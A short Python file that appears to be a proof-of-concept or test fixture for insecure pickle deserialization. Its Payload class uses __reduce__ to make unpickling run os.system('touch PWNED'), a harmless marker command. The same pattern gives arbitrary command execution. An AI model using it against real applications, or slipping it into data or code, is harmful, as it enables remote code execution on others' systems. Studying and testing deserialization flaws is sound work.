"""What runs a command where it is unpickled."""

import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch PWNED",)
